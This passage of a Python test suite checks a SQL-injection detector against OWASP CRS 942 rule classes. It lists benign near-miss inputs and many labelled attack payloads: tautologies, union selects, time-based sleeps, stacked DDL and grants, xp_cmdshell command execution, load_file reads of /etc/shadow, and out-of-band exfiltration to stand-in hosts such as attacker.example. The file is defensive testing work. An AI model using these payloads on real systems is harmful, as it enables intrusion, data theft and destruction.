    ("q", "limit 2 per customer"), ("form", "having trouble logging in?"), ("form", "join us on Friday"),
    ("q", "sleep apnea; snoring"), ("q", "char siu bao"), ("q", "hex nut M8 x 1.25"), ("q", "DROP"),
    ("q", "id desc"), ("q", "-id,name"), ("q", "rank:desc"), ("q", "array.join(', ')"),
    ("q", "str.replace('a', 'b')"), ("q", "a || b && c"), ("q", "x => x * 2"), ("q", "1 << 4"), ("q", "a != b"),
    ("form", "git commit -m 'fix: or/and'"), ("referer", "https://example.com/?q=select&order=desc"),
    ("path", "union-station-guide"), ("form", "o'brien@example.com"), ("form", "select@company.com"),
    ("form", "union.rep@example.org"), ("q", "1,000-2,000"), ("q", "-1"), ("q", "+49 30 1234567"), ("q", "3.14e-10"),
    ("q", "0.5 or 0.75"), ("q", "99.9%"), ("q", "#1-#5"), ("q", "1/1/2024"),
    ("json", "{\"sort\":\"price desc\",\"filter\":\"brand:'Nike'\"}"), ("form", "> quoted 'text' -- author"),
    ("q", "macbook -- refurbished -- 2019"), ("q", "tickets -- 2 or 3"), ("form", "l'ordre du jour"),
    ("form", "c'est la vie"), ("form", "l'or et l'argent"), ("q", "Ballon d'Or"), ("q", "Palme d'Or winners 2024"),
    ("form", "Livre d'or"), ("q", "L'Oréal or Nivea"), ("form", "Jack o'lantern or candles"),
    ("q", "Côte-d'Or wine 2019 or 2020"), ("form", "rock'n'roll or blues, 1950s"),
    # near-misses for the rules of this round: inch and feet marks, elisions, quoted words, English verbs after `;`
    ("form", "Screens 24\"-32\" only, please"), ("form", "She's 5'4\" or so"), ("form", "Thanks; call me tomorrow"),
    ("q", "exec team offsite"), ("cookie", "%22Update%20Available%22%20banner"), ("q", "round(2.5)"),
    ("form", "if a > 1 and b < 2 then stop"), ("form", "<li>3 &gt; 2 &amp;&amp; 2 &gt; 1</li>"),
    ("form", "Set x = 'hello'"), ("form", "class=\"btn btn-primary\""), ("form", "Shipping: 2-3 days; select express at checkout"),
    ("form", "Grant writing tips; merge the two drafts"), ("q", "%s%s%s select from list"),
    # batch 5 benign, written blind
    ("form", "Let's meet at O'Hare or Midway"), ("form", "Sinéad O'Connor -- Nothing Compares 2 U"),
    ("q", "rock & roll hall of fame"), ("form", "We can't; it's closed on Sundays"), ("q", "T'Challa"),
    ("form", "Dr. O'Neill's office: 2nd floor, room 204"), ("q", "'Til Tuesday"), ("form", "Shaquille O'Neal"),
    ("q", "select comfort sleep number"), ("q", "union square cafe"), ("form", "Order 66, then select another scene"),
    ("q", "drop shipping from china"), ("form", "Show me all tables from IKEA under $100"),
    ("form", "Where do I update my payment method?"), ("form", "How do I delete my account and all data?"),
    ("form", "Can I insert a photo into my review?"), ("q", "sleep 5 hours a night"), ("q", "benchmark 5000"),
    ("q", "char 10 newline"), ("q", "user() function"), ("q", "version 1.2.3 or newer"),
    ("form", "Choose 1 or 2, then press OK"), ("q", "1 = one, 2 = two"), ("form", "A = 1; B = 2; C = 3"),
    ("q", "x < 10 or x > 20"), ("form", "IF(A1>0,\"yes\",\"no\")"), ("q", "COUNTIF(B:B,\">5\")"),
    ("q", "VLOOKUP(A2,Sheet2!A:B,2,FALSE)"), ("form", "SUMIF(range, \">10\")"),
    ("q", "10' x 12' rug"), ("q", "2'6\" door"), ("form", "The 80's and 90's hits"), ("q", "rock'n'roll 50's"),
    ("form", "\"Best\" -- The Times; \"Brilliant\" -- The Guardian"), ("q", "\"hello world\" in python"),
    ("q", "\"new\" and \"used\""), ("form", "Say 'yes' or 'no' -- nothing else"), ("q", "'a' or 'b'"),
    ("q", "title:'foo' AND year:2020"), ("q", "name:\"O'Brien\""), ("q", "tag:'c#' or tag:'f#'"),
    ("q", "ORDER-2024-0042"), ("q", "INV#2024/001"), ("q", "SEL-ECT-001"), ("q", "0x00ff00"),
    ("q", "ab12cd34ef56"), ("hdr", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJl"),
    ("cookie", "cart=%5B%7B%22id%22%3A1%2C%22qty%22%3A2%7D%5D"), ("xff", "198.51.100.23"),
    ("ua", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    ("referer", "https://shop.example/search?q=o%27reilly+books&sort=price+desc"),
    ("path", "o-reilly-media"), ("path", "select-comfort-pillow"), ("xml", "Tom & Jerry's"),
    ("multipart", "report (final) -- v2.pdf"), ("json", "It's 5 o'clock; let's go"), ("gql", "O'Brien"),
    ("form", "I rated it 4/5 -- would buy again, or recommend to a friend."),
    ("form", "Usage: cmd [--verbose] [--limit N] [--order asc|desc]"), ("q", "like 'this'"),
    ("form", "=AND(A1>0, OR(B1=\"x\", C1<3))"), ("form", "=VLOOKUP(A2,'Price List'!A:C,3,FALSE)"),
    ("form", "=SUMIFS(C:C,A:A,\"North\",B:B,\">=2024-01-01\")"), ("form", "=IFERROR(INDEX(B:B,MATCH(D2,A:A,0)),\"n/a\")"),
    # batch 6 benign, written blind (API filter syntaxes, reviews, specs)
    ("q", "-created_at,name"), ("q", "id,name,email"), ("q", "status:\"in progress\""),
    ("q", "(age.lt.18,age.gt.21)"), ("q", "created_at.desc"), ("q", "like.*john*"), ("q", "gte.18"),
    ("q", "Name eq 'O''Brien'"), ("q", "Price desc"), ("q", "contains(Name,'sql')"), ("q", "Name,Price"),
    ("q", "status:active AND (type:a OR type:b)"), ("q", "price:[10 TO 20]"),
    ("form", "Great product! Ordered on Monday, arrived Wednesday. 5/5 -- would order again."),
    ("form", "The 'Select' button doesn't work on iOS 17; I have to tap twice."),
    ("form", "Union jack cushion cover, 45 x 45 cm, 100% cotton; machine washable at 30°C."),
    ("form", "Dimensions (W x H x D): 60 x 85 x 60 cm; weight: 45 kg"), ("q", "1/2\" drive socket set"),
    ("q", "3/8\"-16 bolt"), ("form", "Size: 10' x 14' (3.0 x 4.3 m)"), ("q", "M&M's"), ("q", "AT&T"),
    ("q", "Procter & Gamble"), ("form", "Johnson & Johnson's baby oil"), ("q", "Ben & Jerry's or Häagen-Dazs"),
    ("form", "P.S. I'll be out from 1 to 5; call me after."), ("form", "Re: Order #4521 -- wrong size (M instead of L)"),
    ("form", "Hi! Is the 'Union' sofa available in grey? Thanks, O'Donnell"), ("q", "Who's Afraid of Virginia Woolf?"),
    ("q", "Ocean's Eleven (2001)"), ("q", "Schindler's List or The Pianist"), ("q", "Don't Stop Me Now -- Queen"),
    ("form", "--- Original Message ---"), ("form", "/* not a comment, just stars */"), ("q", "C:\\Users\\O'Brien\\Documents"),
    ("q", "SELECT * pricing plans"), ("q", "insert molding"), ("q", "delete key not working"), ("q", "update firmware"),
    ("path", "how-to-select-from-a-union-catalog"), ("path", "o'reilly"), ("path", "2024-05-01"),
    ("filename", "O'Brien - CV (2024).pdf"), ("filename", "Q3 report; final -- v2.xlsx"),
    ("acceptlang", "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5"), ("b64cookie", "12345"),
    ("formkey", "0"), ("formkey", "first_name"),
    ("q", "insert into values multiple rows"), ("q", "waitfor delay sql server"), ("q", "delete from table where"),
    # batch 7 benign, written blind
    ("q", "pi day 3.14"), ("q", "user guide"), ("q", "database design course"), ("q", "version history"),
    ("form", "Call me at 555-0100 or email me; either is fine"), ("q", "between friends and family"),
    ("q", "in stock and on sale"), ("q", "not in stock"), ("form", "If not, then why not?"),
    ("q", "sounds like teen spirit"), ("q", "coalesce studio"), ("q", "isnull vs is null"),
    ("form", "1 in 3 people; 2 in 5 cats"), ("form", "Is it true or false that 2 + 2 = 4?"),
    ("q", "char length limit 280"), ("q", "ascii table pdf"), ("q", "ord 2024 flight"),
    ("gqlq", "query($id: ID!) { user(id: $id) { name posts(first: 5) { title } } }"),
    ("gqlq", "query { products(first: 10, orderBy: {field: PRICE, direction: DESC}) { edges { node { name } } } }"),
    ("gqlq", "mutation { updateUser(id: 1, input: {name: \"O'Brien\"}) { id } }"),
    ("gqlq", "query Orders { orders(where: {status: {eq: \"open\"}}, order: {createdAt: DESC}) { id } }"),
    # batch 8 benign, written blind (one flagged before its fix: `5' 10" and 170 lbs`)
    ("form", "Where's my order? It's been 2 weeks -- order #55231"), ("form", "Set of 4 chairs (oak) -- select finish: natural or walnut"),
    ("form", "The 'Delete' and 'Update' buttons overlap on mobile"), ("form", "Can I order 3 or more and get free shipping?"),
    ("form", "Nell'ordine: prima l'uno, poi l'altro"), ("form", "\"Drop\" was the best song on the album -- 5 stars"),
    ("form", "Merge pull request #42 from o'neil/fix-login"), ("form", "fix: don't drop events when buffer is full (#123)"),
    ("form", "Revert \"Update README.md\""), ("form", "[WIP] select-all checkbox; union of filters"),
    ("q", "SELECT Bike 3000 -- union made in USA"), ("form", "5' 10\" and 170 lbs"), ("form", "(555) 123-4567 or (555) 765-4321"),
    ("form", "She said: \"I'll be there at 5 -- or 6\""), ("q", "Rating >= 4 and price <= 50"), ("q", "price > 10 and price < 100"),
]

# Code-ish searches: no SQL finding allowed. (Other families may have their own opinion on shell- or PHP-
# looking text; that is their call, so only the sqli verdict is asserted here.)
CODE_SNIPPETS: list[tuple[str, str]] = [
    ("q", "if (a == b) { return 1; }"), ("q", "print('hello')"), ("q", "console.log('x')"),
    ("q", "mysql sleep function"), ("q", "SELECT box-sizing: border-box"), ("form", "x = a if a > b else b  # python"),
    ("q", "for (i = 0; i < n; i++)"), ("q", "df.groupby('a').sum()"),
    ("form", "```js\nconst x = document.querySelector('#app');\nx.innerHTML = '<p>Hi</p>';\n```"),
]


def _id(item: tuple[str, str]) -> str:
    return f"{item[0]}:{item[1][:60]}"


def test_sets_are_large_and_distinct():
    assert len(set(ATTACKS)) == len(ATTACKS) >= 150
    assert len(set(BENIGN)) == len(BENIGN) >= 100


# --- Round 2: one small set per attack *class* of CRS 942xxx (PL1/PL2, plus the classes CRS v4 added), written from
# the rule's msg/target with own payloads (no CRS test string). (CRS rule id, carrier, payload).
CLASS_ATTACKS: list[tuple[str, str, str]] = [
    # 942140 common database / catalog names
    ("942140", "q", "1 union select name from msysqueries"),
    ("942140", "cookie", "x' and 1=(select count(*) from pg_toast.pg_toast_1255)--"),
    ("942140", "json", "1 and substring(db_name(),1,1)='m'"),
    ("942140", "hdr", "' union select null,name from tempdb..sysobjects--"),
    # 942160 blind sleep()/benchmark()
    ("942160", "q", "1 and sleep ( 3 )"),
    ("942160", "form", "x' or benchmark(30000000,sha2('a',256)) or '"),
    ("942160", "path", "7 or sleep(3)=0"),
    # 942170 select/; before benchmark|sleep|if
    ("942170", "q", "1; select sleep(4)#"),
    ("942170", "q", "(select if(1=1,sleep(4),0))"),
    ("942170", "xff", "1;select benchmark(9000000,md5(now()))"),
    # 942190 MSSQL code execution and information gathering
    ("942190", "q", "';select @@servername--"),
    ("942190", "q", "1 union select connection_id(),current_user()"),
    ("942190", "form", "x'; execute master.dbo.xp_cmdshell 'dir c:\\'--"),
    ("942190", "q", "' union select @@hostname,2-- -"),
    # 942220 integer-overflow magic numbers
    ("942220", "q", "-2147483649"),
    ("942220", "json", "18446744073709551616"),
    # 942230 conditional injection
    ("942230", "q", "1 and (case when 1=1 then 1 else 0 end)=1"),
    ("942230", "q", "if(ascii(1)=49,1,0)"),
    ("942230", "cookie", "1 and (select 1) like (select 1)"),
    # 942240 charset switch and MSSQL DoS
    ("942240", "q", "';waitfor time '23:59:59'--"),
    ("942240", "form", "1; alter table users convert to character set big5--"),
    ("942240", "q", "'; a: goto a--"),
    # 942250 MATCH AGAINST, MERGE, EXECUTE IMMEDIATE
    ("942250", "q", "' or match(name,descr) against('a*' in boolean mode)#"),
    ("942250", "q", "1; merge into accounts a using (select 1 id from dual) s on (a.id=s.id) when matched then update set a.bal=0"),
    ("942250", "form", "x'; execute immediate 'grant dba to scott'--"),
    # 942270 union … select … from
    ("942270", "xml", "-7 union all select username from users"),
    ("942270", "hdr", "0 UNION SELECT passwd FROM pg_shadow LIMIT 1"),
    # 942280 pg_sleep, waitfor delay, shutdown
    ("942280", "q", "'; shutdown with nowait;--"),
    ("942280", "cookie", "1);select pg_sleep(6)--"),
    ("942280", "q", "x' waitfor delay '00:00:07'--"),
    # 942320 stored procedure / function injection
    ("942320", "q", "1;CREATE FUNCTION f() RETURNS INT RETURN 1--"),
    ("942320", "q", "'; open c1; fetch next from c1--"),
    ("942320", "form", "1;exec(@cmd)--"),
    ("942320", "q", "1;declare @a int;select @a=1--"),
    # 942350 UDF injection and data/structure manipulation after `;`
    ("942350", "q", "1;create function do_system returns integer soname 'raptor_udf2.so';#"),
    ("942350", "q", "1; truncate logs--"),
    ("942350", "q", "';rename user root to x;#"),
    ("942350", "form", "1; load xml infile '/tmp/x.xml' into table t"),
    # 942360 concatenated basic injection and SQL-LFI
    ("942360", "q", "');select load_file('/etc/shadow')#"),
    ("942360", "q", "1 alter table x add y int"),
    ("942360", "q", "\") select * from users--"),
    ("942360", "q", "9 /*!select*/ 1 from dual"),
    # 942500 MySQL inline comments
    ("942500", "q", "1 /*!40000or*/ 1=1"),
    ("942500", "q", "'/*!*/union/*!*/select 1-- -"),
    ("942500", "q", "1/*!50000and*//*!50000sleep(5)*/"),
    # 942110 common injection testing (quotes at the edges)
    ("942110", "q", "1'"),
    ("942110", "q", "';"),
    ("942110", "form", "')"),
    # 942120 SQL operators
    ("942120", "q", "1 xor true"),
    ("942120", "q", "1 not between 0 and 1"),
    ("942120", "q", "1 <=> 1"),
    ("942120", "q", "x' is null or '1"),
    # 942130 tautology by operand identity
    ("942130", "q", "x' or a=a or 'b"),
    ("942130", "q", "1 or id=id"),
    ("942130", "form", "' or 'q' not like 'r"),
    ("942130", "q", "1 or x rlike x"),
    # 942150 / 942410 / v4 942151-942152 SQL function names
    ("942150", "q", "1 and coercibility(user())=3"),
    ("942150", "q", "' or crc32('a')>0#"),
    ("942150", "q", "1 and strcmp(user(),'root')"),
    ("942150", "ua", "Mozilla/5.0 (X11; Linux) ' and ascii(substr(user(),1,1))>0#"),
    # 942180 authentication bypass 1/3
    ("942180", "q", "x' xor 1=1#"),
    ("942180", "form", "' div 1=1 or '"),
    ("942180", "q", "admin' between 'a' and 'z"),
    ("942180", "q", "x'='x"),
    # 942200 comment/space obfuscation and backtick termination
    ("942200", "q", "name`,(select 1 from dual))-- -"),
    ("942200", "q", "x` or 1=1#"),
    ("942200", "q", "1+union+select+space(1),2"),
    # 942210 chained injection 1/2
    ("942210", "q", "1 and (id)='1"),
    ("942210", "q", "1 group by concat(user())"),
    ("942210", "q", "x'#\ndrop table t"),
    ("942210", "q", "x'--\nupdate users set pw=1"),
    # 942260 authentication bypass 2/3
    ("942260", "q", "' or 1=1 having 1=1#"),
    ("942260", "q", "x' like '%"),
    ("942260", "form", "a' union(select 1)#"),
    # 942300 comments, conditions and ch(a)r
    ("942300", "q", "1 or ord(user())"),
    ("942300", "q", "(case 1 when 1 then 1 end)"),
    ("942300", "q", "1 and chr(49)='1'"),
    # 942310 chained injection 2/2
    ("942310", "q", "1 order by if(1=1,1,(select 1 union select 2))"),
    ("942310", "q", "'; if 1=1 select 1--"),
    ("942310", "q", "'; begin dbms_lock.sleep(5); end;--"),
    ("942310", "q", "1 and coalesce(user(),1)"),
    ("942310", "q", "'+@@version+'"),
    # 942330 classic probings 1/3
    ("942330", "q", "1' or 'x"),
    ("942330", "q", "\\' or 1#"),
    ("942330", "q", "x\" or \"x"),
    # 942340 authentication bypass 3/3
    ("942340", "q", "1' is not null--"),
    ("942340", "q", "x' regexp(0x5e)#"),
    ("942340", "q", "' or 1 sounds like '1"),
    # 942361 alter/union right after punctuation or digits
    ("942361", "q", "') union all select 1--"),
    ("942361", "q", "1 alter user root identified by 'x'"),
    ("942361", "form", "); alter table t drop x"),
    # 942370 classic probings 2/3
    ("942370", "q", "'*1*'"),
    ("942370", "q", "1'*2*'"),
    ("942370", "q", "x'-(select 1)-'"),
    # 942380 / 942390 / 942400 and|or|xor|having|exists with literals
    ("942380", "q", "1 having 2>1"),
    ("942390", "q", "x' xor 'a'>'b"),
    ("942400", "q", "1 and 'ab'<'ac'"),
    ("942380", "q", "' or exists (select 1)--"),
    ("942390", "q", "1 xor 5"),
    # 942470 MSSQL extended / system procedures
    ("942470", "q", "';exec xp_regenumvalues 'HKEY_LOCAL_MACHINE','SOFTWARE'--"),
    ("942470", "q", "1;exec sp_makewebtask 'c:\\inetpub\\x.asp','select 1'--"),
    ("942470", "form", "x'; exec sp_oamethod @o,'run',null,'cmd /c whoami'--"),
    ("942470", "q", "xp_availablemedia"),
    # 942480 select…from…where, top, into outfile, insert into, inner join, data_type
    ("942480", "q", "1 union select data_type from information_schema.columns"),
    ("942480", "q", "1 and 1=(select top 1 name from users where 1=1)"),
    ("942480", "q", "x' and 1=to_number((select user from dual))--"),
    ("942480", "q", "' inner join users u on 1=1--"),
    # 942430 / 942431 many SQL meta-characters (scanner fuzz strings)
    ("942430", "q", "1'\")(('\"),."),
    ("942430", "q", "\"'))(\"'.,"),
    # 942440 comment sequences
    ("942440", "q", "admin'/*"),
    ("942440", "q", "1;--"),
    ("942440", "q", "x'%00"),
    # 942450 hex-encoded strings
    ("942450", "q", "1 and user()=0x726f6f74"),
    ("942450", "q", "' or name=0x61646d696e#"),
    # 942510 / 942511 backtick and tick bypasses
    ("942510", "q", "`id`=`id`"),
    ("942510", "q", "1 or `a`=`a`"),
    ("942510", "q", "`users`.`password` like 'a%'"),
    # v4 942520 / 942521 authentication bypass 4/4 (quote, logic word, operand, IS/operator)
    ("942520", "q", "x' or id is not null#"),
    ("942520", "form", "bob' and pass is null--"),
    ("942521", "q", "x\" and id>0 or \""),
    # v4 942522 escaped-quote breakout
    ("942522", "q", "x\\' or 1=1-- -"),
    ("942522", "json", "\\\" or \"\"=\""),
    # v4 942530 / 942540 query termination after a quote
    ("942530", "q", "admin';"),
    ("942540", "q", "abc' ;"),
    ("942540", "q", "z'\t;"),
    # v4 942550 JSON-based SQL injection
    ("942550", "q", "1 or '{\"b\":2}'::jsonb <@ '{\"b\":2}'"),
    ("942550", "q", "' or json_extract('{\"a\":1}','$.a')=1#"),
    ("942550", "json", "x' or '[\"a\"]'::jsonb ?| array['a']--"),
    ("942550", "q", "1 and '{\"a\":{\"b\":1}}'::json #>> '{a,b}' = '1'"),
    # v4 942560 MySQL scientific-notation bypass
    ("942560", "q", "1.e(sleep(5))"),
    ("942560", "q", "x' or 1.e(1)=1.e(1)#"),
    ("942560", "q", "1 union select 1.e,2"),
    # v4 942101 / 942321 / 942152: the same classes in the path basename and in headers
    ("942101", "path", "-1 union select null,@@version"),
    ("942321", "hdr", "1;declare @x varchar(9)--"),
    ("942321", "referer", "https://a.example/x?id=1;create procedure p as select 1--"),
]

# A second class batch, written blind after the fixes above (47 of 50 caught on first pass; the three misses --
# DECLARE … CURSOR FOR, `123"'`, REGEXP BINARY -- were then fixed with the grammar they use).
CLASS_ATTACKS += [
 ("942140","q","1 and (select count(*) from msysrelationships)>0"),
 ("942140","form","' union select 1,name from sys.databases--"),
 ("942160","cookie","1' and sleep(0x5)#"),
 ("942160","json","1 or benchmark(1e7,rand())"),
 ("942170","q","1;select if(substr(user(),1,1)='r',sleep(3),1)"),
 ("942190","hdr","'; exec master..xp_cmdshell 'net user'--"),
 ("942190","q","1 union select user(),database(),version()"),
 ("942220","q","4294967297"),
 ("942220","form","-9223372036854775809"),
 ("942230","q","1 and (case 1 when 1 then sleep(2) end)"),
 ("942240","q","'; waitfor time '00:00'--"),
 ("942250","json","' and match(a) against('b')--"),
 ("942250","q","1; execute immediate 'select 1 from dual'"),
 ("942270","cookie","x' union select col from tab-- -"),
 ("942280","form","1; shutdown--"),
 ("942280","q","1' || (select pg_sleep(3))--"),
 ("942320","q","1; create procedure x as select 1--"),
 ("942320","q","1;declare c cursor for select 1;open c"),
 ("942350","q","1; insert into log values (1)--"),
 ("942350","form","'; delete from orders where 1=1--"),
 ("942360","q","') union select load_file('/etc/hosts'),2-- -"),
 ("942500","q","1 /*!12345union*/ select 1"),
 ("942110","q","123\"'"),
 ("942120","q","1 and 1 regexp binary 0x31"),
 ("942120","q","1 || 1"),
 ("942130","q","x' or b like b#"),
 ("942130","q","1 and user=user"),
 ("942150","q","1 and char_length(version())>0"),
 ("942180","q","admin' or '1'!='2"),
 ("942200","q","x`) or 1=1-- -"),
 ("942210","q","1 and (1)=(1)"),
 ("942260","q","' or 1 having 1#"),
 ("942300","q","1 and char(65)=0x41"),
 ("942310","q","'; while 1=1 waitfor delay '0:0:1'--"),
 ("942330","q","1\" or \"1"),
 ("942340","q","x' is 1--"),
 ("942361","q","'))) union select 1,2,3-- -"),
 ("942370","q","x'+(1)+'"),
 ("942390","q","' or 'ab'>'a'--"),
 ("942400","form","1 and 5>4"),
 ("942470","q","';exec xp_servicecontrol 'start','schedule'--"),
 ("942480","q","1 and 1=(select 1 from users inner join roles on 1=1)"),
 ("942440","q","x';--"),
 ("942450","q","' or pass=0x70617373#"),
 ("942510","q","x` union select 1#"),
 ("942520","q","a' or name is not null or 'x"),
 ("942522","form","name\\\" or 1=1#"),
 ("942530","q","1\";"),
 ("942550","q","' or '{\"x\":1}'::jsonb ? 'x'--"),
 ("942560","q","1.e(ascii(database()))"),
]

# First pass (the code before this round's changes): 125 of 136 class payloads caught; after: 135 of 135 asserted
# here. Not caught and not asserted: `x'{` (942300, an ODBC escape opened right after a quote) -- text quotes JSON
# the same way (`'{"a": 1}'`), and the brace alone runs nothing.

# Benign near-misses of this round's rules: integer edges, quote probes, `;--`, NOT BETWEEN, XOR, `(operand)=`,
# JOIN after a quote, backtick identifiers, qualified and lone calls, quoted selectors, inequalities.
ROUND2_BENIGN: list[tuple[str, str]] = [
    ("q", "2147483600"), ("q", "1844674407"), ("json", "4294967000"), ("q", "+1 214 748 3648"), ("form", "Order 2147483650"),
    ("form", ":')"), ("form", ";-)"), ("form", "(see 'a')"), ("q", "('a', 'b')"), ("form", "It's \"done\")"),
    ("form", "1; -- see below"), ("q", "3; 4; 5"), ("form", "Step 1; then 2"), ("q", "1;2;3"),
    ("form", "not between 9 and 5"), ("form", "5 is not between 1 and 3"), ("q", "between 1 and 5"),
    ("q", "A xor B"), ("q", "1 xor 1 truth table"), ("q", "xor gate 74LS86"), ("form", "either A xor B, not both"),
    ("form", "Tom and (Jerry) = fun"), ("form", "x and (y)=z"), ("form", "salt and (pepper) to taste"),
    ("form", "Use a 'left join' here"), ("form", "Tom's left join"), ("q", "'inner join' vs 'outer join'"),
    ("form", "He's right, join us"), ("form", "Ma'am, left or right?"), ("form", "the 'cross join' section"),
    ("form", "Call `users`.`email` = ? with a bound value"), ("form", "Use `a` and `b`, then `a` again"),
    ("q", "time.sleep(0.5)"), ("q", "strftime('%Y')"), ("q", "date('Y-m-d')"), ("q", "sprintf('%05d', n)"),
    ("q", "$('#nav a').click()"), ("q", "document.querySelector('#app')"), ("q", "jQuery('#cart .item').remove();"),
    ("q", "new Date().getTime()"), ("q", "new Date('2024-01-01')"), ("q", "Math.max(1, 2).toFixed(2)"),
    ("q", "3 < 5 and 5 < 7"), ("q", "1 <= 2 or 2 >= 1"), ("form", "10 > 5 && 5 > 1"),
    ("form", "<a href=\"#top\">Back to top</a>"), ("form", "<td bgcolor=\"#eeeeee\">x</td>"),
    ("form", "<a href='#section-2'>see</a>"), ("form", "<a class=\"btn\" href=\"#\">Go</a>"),
    ("form", "I declare a cursor variable"), ("form", "I declare a cursor for you"), ("q", "regexp binary search"),
    ("q", "5'11\""), ("q", "2'6\" door"), ("q", "12\""), ("form", "declare independence; select a date"),
]

# Values other helpers found flagged by this detector (round 1 lists in test_wild_code.py OTHER_DETECTORS,
# test_wild_rce.py OTHER_DETECTORS, test_wild_xss.py BENIGN_XSS_ONLY), fixed in round 2: no sqli finding.
ROUND2_FIXED_FP: list[tuple[str, str]] = [
    # near-misses of this round's rules that another family flags (rce: backticks; nosqli: `.sleep(`)
    ("form", "Set `x` = 1 in config"), ("form", "`users`.`email` column"), ("form", "``code`` and `more`"),
    ("q", "asyncio.sleep(1)"), ("q", "Thread.sleep(1000);"),
    # the other helpers' values
    ("q", "Thread.sleep(1000)"), ("q", "cursor.execute('SELECT 1')"), ("q", "date('Y-m-d')"),
    ("multipart", "5 < 10 && 10 > 5"), ("ua", "$('#menu').toggle();"), ("q", "5 < 10 and 10 > 5"),
    ("q", "$(\"#id\").hide()"), ("q", "new Date().getTime()"), ("form", "<font color=\"#ff0000\" face=\"Arial\">red</font>"),
]


# --- Round 3: CRS 4.25 as the checklist (942151's function vocabulary, 942550 JSON in SQL, 942540/942521 quote
# then `;`, 942362 DDL/DCL, 942321 procedures in headers, out-of-band, time-based, hex/char encodings, MySQL comment
# obfuscation, stacked queries, MSSQL/Oracle/SQLite/PostgreSQL/MySQL specifics). Own payloads, no CRS test string.
# First pass (the code before this round): 97 of 105 caught, 11 of 99 benign flagged (6 of them bare probes --
# `@@datadir`, `drop table` -- that were not benign and were dropped; 2 flagged only by rce/xss, moved to
# ROUND3_NO_SQLI). On the final lists the code before this round catches 98 of 104 and flags 6 of 94 (three DDL
# searches added after the first pass among them); after: 104 of 104, 0 of 94. Not asserted: `1;open c` (942321's
# `; open cursor` fragment: without DECLARE it runs nothing, and `; open …` is everyday English).
ROUND3_ATTACKS: list[tuple[str, str, str]] = [
    # 942151 SQL function vocabulary of CRS 4 (PostgreSQL JSON, MySQL date/network, Oracle raw/dump)
    ("942151", "q", "1 and json_typeof('{\"a\":1}')='object'"),
    ("942151", "cookie", "' and jsonb_typeof(to_jsonb(current_user))='string'--"),
    ("942151", "q", "1 or coercibility(user())=3"),
    ("942151", "form", "' or collation(version()) like 'utf8%'-- -"),
    ("942151", "q", "1 and rawtohex(user)>'41'"),
    ("942151", "json", "' and dump(user) like '%65%'--"),
    ("942151", "q", "1 and inet_aton('127.0.0.1')>0"),
    ("942151", "hdr", "' and uuid_short()>0 and ''='"),
    ("942151", "q", "1 and datediff(now(),0)>1"),
    ("942151", "path", "5 and weekday(now())<7"),
    ("942151", "q", "' and row_to_json(row(1))::text like '%'--"),
    ("942151", "form", "' and getpgusername()='postgres'--"),
    ("942151", "q", "1 and yearweek(now())>0"),
    ("942151", "jsonu", "x' or hextoraw('41')=utl_raw.cast_to_raw('A')--"),
    ("942151", "q", "1 and json_array_length(json_build_array(1,2))=2"),
    ("942151", "cookie", "1' and asciistr(user)>'A"),
    # 942550 JSON operators / functions inside SQL
    ("942550", "q", "' or json_extract('{\"a\":1}','$.a')=1--"),
    ("942550", "form", "1 and '{\"a\":2}'::jsonb @> '{\"a\":2}'"),
    ("942550", "q", "' or data->>'$.role'='admin'#"),
    ("942550", "json", "1 and '[1,2]'::jsonb ?| array['1']"),
    ("942550", "q", "' or json_valid('{}')-- -"),
    ("942550", "cookie", "' or '{\"r\":\"a\"}' ->> '$.r' = 'a'--"),
    # 942540 / 942521 quote breakouts ending a statement
    ("942540", "form", "admin';"),
    ("942540", "q", "bob\" ;"),
    ("942540", "json", "x'; --"),
    ("942521", "form", "admin' or 'a'<>'b"),
    # 942362 / 942350 DDL and data manipulation after a breakout or at the start
    ("942362", "q", "1;alter table users add column pwn int--"),
    ("942362", "form", "'; create user eve identified by 'p4ss'--"),
    ("942362", "q", "'; grant all privileges on *.* to 'eve'@'%'--"),
    ("942362", "cookie", "1; rename table users to users_old--"),
    ("942362", "q", "x'; update users set role='admin' where name='bob'--"),
    ("942362", "hdr", "'; alter login sa enable--"),
    ("942362", "q", "1; alter user postgres with password 'x'--"),
    # 942321 procedure / function injection (also in headers)
    ("942321", "ua", "Mozilla/5.0';declare @q varchar(99);set @q=0x77616974666f722064656c61792027303a303a3527;exec(@q)--"),
    ("942321", "referer", "'; create function sys_exec returns int soname 'udf.so'--"),
    ("942321", "ua", "' and 1=(select 1 from pg_sleep(5))--"),
    ("942321", "q", "2 and 2::bigint=2"),
    ("942321", "xff", "10.0.0.8' and sleep(7)-- -"),
    # out-of-band exfiltration
    ("oob", "q", "'; exec master..xp_dirtree '\\\\abc.attacker.example\\x'--"),
    ("oob", "form", "' || utl_http.request('http://x.example/'||user) || '"),
    ("oob", "q", "1 and load_file(concat('\\\\\\\\',version(),'.x.example\\\\a'))"),
    ("oob", "q", "'; copy (select '') to program 'nslookup x.example'--"),
    ("oob", "json", "1;copy users to '/tmp/u.csv'--"),
    ("oob", "cookie", "' and dblink_connect('host=x.example user=a')='ok'--"),
    ("oob", "q", "' union select utl_inaddr.get_host_address('x.example') from dual--"),
    # time-based blind
    ("time", "q", "1 and (select 1 from (select sleep(5))a)"),
    ("time", "form", "' and 1=like('ABCDEFG',upper(hex(randomblob(300000000/2))))--"),
    ("time", "q", "1 and 1=dbms_pipe.receive_message(('a'),10)"),
    ("time", "q", "if(now()=sysdate(),sleep(5),0)"),
    ("time", "hdr", "'xor(if(now()=sysdate(),sleep(5),0))xor'"),
    ("time", "q", "1 rlike sleep(1)"),
    ("time", "path", "1'-sleep(5)-'"),
    ("time", "q", "1 and elt(1,sleep(5))"),
    ("time", "form", "'; do $$ begin perform pg_sleep(5); end $$--"),
    ("time", "q", "1) and (select*from(select(sleep(5)))a)-- -"),
    # hex / char encodings
    ("942450", "q", "' union select 1,0x61646d696e-- -"),
    ("942450", "q", "1 and user()=char(114,111,111,116)"),
    ("942450", "form", "' and password=unhex('61646d696e')#"),
    ("942450", "q", "' union select chr(65)||chr(66)--"),
    ("942450", "cookie", "x' or name=x'61646d696e'-- -"),
    ("942450", "q", "1 and e'\\x41'='A'"),
    # MySQL comment / space obfuscation
    ("942500", "qraw", "1/*!UNION*//*!SELECT*/1,2"),
    ("942500", "q", "1\nunion\nselect\n1,2"),
    ("942500", "q", "1 /*!50000and*/ 1=1"),
    ("942500", "q", "'/**/or/**/1/**/=/**/1#"),
